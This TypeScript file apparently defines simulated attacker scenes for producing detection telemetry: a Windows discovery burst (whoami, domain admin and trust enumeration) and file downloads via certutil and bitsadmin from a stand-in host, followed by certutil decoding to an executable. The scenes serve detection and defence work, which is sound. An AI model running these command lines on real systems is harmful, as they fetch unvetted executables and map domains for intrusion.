/** Attack scenes around tools: looking around, and fetching programs with what Windows has. */
import { images } from '../images.ts';
import type { Image } from '../images.ts';
import { anyWorkstation, auditedWorkstation, part, victim, type Scene } from './types.ts';

export const discovery: Scene = {
  id: 'discovery-burst',
  title: 'A burst of commands that ask who, where and what',
  technique: 'T1087.002',
  tactic: 'discovery',
  host: auditedWorkstation,
  play(stage) {
    const desktop = victim(stage);
    part(stage, 'look around');
    const shell = stage.startConsole(images.cmd, 'C:\\Windows\\system32\\cmd.exe', {
      parent: desktop.explorer,
    });
    const commands: readonly (readonly [Image, string])[] = [
      [images.whoami, 'whoami  /all'],
      [images.systeminfo, 'systeminfo'],
      [images.net, 'net  group "Domain Admins" /domain'],
      [images.net, 'net  group "Enterprise Admins" /domain'],
      [images.nltest, 'nltest  /domain_trusts /all_trusts'],
      [images.nltest, 'nltest  /dclist:brackwater.example'],
      [images.net, 'net  localgroup administrators'],
      [images.quser, 'quser'],
      [images.tasklist, 'tasklist  /v'],
      [images.ipconfig, 'ipconfig  /all'],
    ];
    for (const [image, commandLine] of commands) {
      stage.wait(0.4, 3);
      const run = stage.start(image, commandLine, { parent: shell, lives: 900_000 });
      if (image === images.net)
        stage.start(images.net1, `C:\\Windows\\system32\\net1${commandLine.slice(3)}`, {
          parent: run,
          lives: 500_000,
        });
    }
    stage.wait(2, 5);
    stage.exit(shell);
    return desktop.user;
  },
};

const SOURCE = { ip: '203.0.113.140', name: 'files.dock-mirror.example', port: 80 };

export const certutilDownload: Scene = {
  id: 'certutil-download',
  title: 'Program fetched with certutil',
  technique: 'T1105',
  tactic: 'command-and-control',
  host: auditedWorkstation,
  play(stage) {
    const desktop = victim(stage);
    const path = 'C:\\Users\\Public\\dk.dat';
    part(stage, 'download');
    const shell = stage.startConsole(images.cmd, '"C:\\Windows\\system32\\cmd.exe"', {
      parent: desktop.explorer,
    });
    const tool = stage.start(
      images.certutil,
      `certutil  -urlcache -split -f http://${SOURCE.name}/dk.txt ${path}`,
      { parent: shell, lives: 6e6 },
    );
    stage.dns(tool, SOURCE.name, SOURCE.ip);
    stage.connect(tool, SOURCE);
    stage.fileCreate(
      tool,
      `${desktop.home}\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\Content\\${stage.world.random.hex(32).toUpperCase()}`,
    );
    stage.fileCreate(tool, path);
    part(stage, 'decode');
    stage.wait(3, 6);
    const decode = stage.start(images.certutil, `certutil  -decode ${path} C:\\Users\\Public\\dk.exe`, {
      parent: shell,
      lives: 1e6,
    });
    stage.fileCreate(decode, 'C:\\Users\\Public\\dk.exe');
    stage.wait(3, 6);
    stage.exit(shell);
    return desktop.user;
  },
};

export const bitsDownload: Scene = {
  id: 'bitsadmin-download',
  title: 'Program fetched with bitsadmin',
  technique: 'T1197',
  tactic: 'command-and-control',
  host: anyWorkstation,
  play(stage) {
    const { host } = stage;
    const desktop = victim(stage);
    const path = `${desktop.home}\\AppData\\Local\\Temp\\vcr.exe`;
    part(stage, 'download');
    const shell = stage.startConsole(images.cmd, '"C:\\Windows\\system32\\cmd.exe"', {
      parent: desktop.explorer,
    });
    stage.start(
      images.bitsadmin,
      `bitsadmin  /transfer vcr /download /priority foreground http://${SOURCE.name}/vcr.bin ${path}`,
      { parent: shell, lives: 9e6 },
    );
    stage.dns(host.base.svchostUpdate, SOURCE.name, SOURCE.ip);
    stage.connect(host.base.svchostUpdate, SOURCE);
    stage.wait(3, 7);
    stage.fileCreate(host.base.svchostUpdate, path);
    stage.wait(2, 5);
    stage.exit(shell);
    return desktop.user;
  },
};
